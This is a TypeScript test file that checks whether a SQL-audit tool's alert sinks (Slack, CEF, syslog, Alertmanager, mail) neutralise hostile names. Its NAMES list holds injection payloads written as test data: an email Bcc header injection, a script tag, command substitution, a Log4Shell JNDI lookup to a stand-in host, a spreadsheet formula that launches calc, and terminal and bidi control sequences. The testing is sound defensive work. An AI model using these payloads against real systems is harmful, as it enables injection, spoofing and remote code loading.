import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { alertmanagerAlerts } from '../../../../processors/alert/sinks/alertmanager-alerts.ts';
import { cefLine } from '../../../../processors/alert/sinks/cef.ts';
import { MailSink } from '../../../../processors/alert/sinks/mail-sink.ts';
import { slackText } from '../../../../processors/alert/sinks/slack-text.ts';
import { syslogMessages } from '../../../../processors/alert/sinks/syslog-message.ts';
import type { Alert } from '../../../../schemas/alert.ts';
import { SmtpServer } from '../../../support/smtp-server.ts';
import { madeAlert } from '../made-alert.ts';
import { HOST, NEVER, SOURCE } from './receivers.ts';

const NAMES: readonly (readonly [string, string])[] = [
  ['lines and a header', 'x\r\nBcc: evil@example.org\r\n\r\nHello'],
  ['other ends of a line', 'x\u2028y\u2029z\u0085w\u000bv\fu'],
  ['quotes', `x" y='1' \\" \\`],
  ['separators of CEF', 'x|8|src=10.9.9.9 act=allowed\\'],
  ['separators of structured data', 'x"] [evil@1 a="b'],
  ['markup', '<script>alert(1)</script><img src=x onerror=y>&lt;&#60;'],
  ["Slack's mentions and links", '<!channel> <@U012> <https://evil.example|safe>'],
  ['mentions in the open', '@channel @here @all @everyone'],
  ['links in the open', 'https://evil.example [safe](https://evil.example) www.evil.example'],
  ['emphasis', '*x* _y_ ~z~ `code` ```\nAccount: `root`\n```'],
  ['an address in percent signs', '%0d%0aX: y%00%25&user=root#top?x=/../'],
  ['marks of direction', 'x\u202egnp.exe\u202c\u2066y\u2069\u200f\u061c'],
  ['nothing to be seen', '\u200b\u200d\ufeff\u00ad\u{e0041}'],
  ['controls', '\u0000\u0007\u001b[2J\u001b]0;x\u0007\u007f\u009b31m'],
  ['half a character', 'x\ud800y\udc00'],
  ['four bytes a character', '😀'.repeat(40)],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of theirs
  ['templates', '{{ .Labels.x }} {user_name} $(id) `id` ${jndi:ldap://evil.example/x}'],
  ['a formula', `=cmd|' /C calc'!A0`],
  ['a name of Object', '__proto__'],
];
const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/u;

const plain = madeAlert();
const server: { smtp?: SmtpServer } = {};
beforeAll(async () => {
  server.smtp = await SmtpServer.start();
});
afterAll(() => server.smtp?.stop());

/** With the name wherever one can stand. */
function alertOf(name: string): Alert {
  return madeAlert({
    user: name,
    server: name,
    database: name,
    client: name,
    title: name,
    ruleId: name,
    statement: name,
  });
}

describe.each(NAMES)('names with %s', (_, name) => {
  const alert = alertOf(name);
  const shown = alert.user_name;

  it('are on one line in an alert, with nothing hidden', () => {
    expect(JSON.stringify(alert)).toEqual(expect.not.stringMatching(HIDDEN));
    for (const text of textsOf(alert)) expect(text).not.toMatch(HIDDEN);
    expect(shown.length).toBeGreaterThan(0);
  });

  it('are one value of the link', () => {
    const url = new URL(alert.url!);
    expect([url.origin, url.pathname, url.hash]).toEqual(['https://siem.example', '/search', '']);
    expect([...url.searchParams]).toEqual([['user', shown]]);
  });

  it('are in Slack in code alone', () => {
    const text = slackText(alert);
    expect(outsideCode(text)).toEqual(outsideCode(slackText(plain)));
    expect(text).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/);
  });

  it('are values of CEF, and no field of their own', () => {
    const fields = cefFields(cefLine(alert, alert.findings[0]!, '0.1.0', 65_536));
    const usual = cefFields(cefLine(plain, plain.findings[0]!, '0.1.0', 65_536));
    const isIpv6 = name.includes(':');
    const keys = Object.keys(usual).map((key) => (isIpv6 && key === 'src' ? ['c6a2Label', 'c6a2'] : [key]));
    expect(Object.keys(fields).sort()).toEqual(keys.flat().sort());
    expect([fields['name'], fields['suser'], fields['dhost'], fields['cs2'], fields['cs1']]).toEqual(
      Array(5).fill(shown),
    );
  });

  it('are in one message of syslog, with one element of structured data', () => {
    const [message, ...others] = syslogMessages(alert, SOURCE, 65_507).map(String);
    expect(others).toEqual([]);
    const value = '"(?:[^"\\\\\\]]|\\\\["\\\\\\]])*"';
    expect(message).toMatch(
      new RegExp(`^<107>1 \\S+ h sqltrail 1 finding \\[sqltrail@32473(?: [a-z_]+=${value}){5}\\] CEF:0\\|[^\\r\\n]*$`),
    );
  });

  it('are values of labels and annotations of Alertmanager', () => {
    const [posted, ...others] = alertmanagerAlerts(alert, 0);
    const [usual] = alertmanagerAlerts(plain, 0);
    expect(others).toEqual([]);
    expect(Object.keys(posted!.labels)).toEqual(Object.keys(usual!.labels));
    expect(Object.keys(posted!.annotations)).toEqual(Object.keys(usual!.annotations));
    expect(posted!.labels).toMatchObject({ user_name: shown, server_id: shown, service: 'sqltrail', severity: 'high' });
  });

  it('are in the subject and text of a mail, and no header or line of their own', async () => {
    const { smtp } = server;
    const sink = new MailSink({
      host: HOST,
      port: smtp!.port,
      encryption: 'none',
      from: 'sqltrail@example.org',
      to: ['soc@example.org'],
    });
    await sink.send(alert, NEVER);
    await sink.send(plain, NEVER);
    const [hostile, usual] = smtp!.mails.splice(0);
    expect(hostile!.to).toEqual(['soc@example.org']);
    expect(headerNames(hostile!.source)).toEqual(headerNames(usual!.source));
  });
});

function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsOf) : [];
}

/** What is left of mrkdwn without its code: nothing of an alert. */
function outsideCode(text: string): string[] {
  const left = text.replace(/```[^`]*```/g, '```').replace(/`[^`\n]*`/g, '`');
  return left.split('\n');
}

/** As a collector reads it: seven headers that end with a bar, then the extension; the escapes of both undone. */
function cefFields(line: string): Record<string, string> {
  const headers = /^((?:(?:[^|\\]|\\.)*\|){7})(.*)$/.exec(line)!;
  const [version, vendor, product, release, id, name, severity] = [...headers[1]!.matchAll(/((?:[^|\\]|\\.)*)\|/g)].map(
    ([, value]) => value!.replace(/\\([\\|])/g, '$1'),
  );
  expect([version, vendor, product, release]).toEqual(['CEF:0', 'sqltrail', 'sqltrail', '0.1.0']);
  const fields: Record<string, string> = { id: id!, name: name!, severity: severity! };
  for (const [, key, value] of headers[2]!.matchAll(/(?:^| )(\w+)=((?:[^=\\]|\\.)*?)(?= \w+=|$)/g))
    fields[key!] = value!.replace(/\\([\\=])/g, '$1');
  return fields;
}

function headerNames(source: string): string[] {
  const [head] = source.split('\r\n\r\n');
  const names = head!.split('\r\n').filter((line) => !/^\s/.test(line));
  return names.map((line) => line.split(':', 1)[0]!).sort();
}
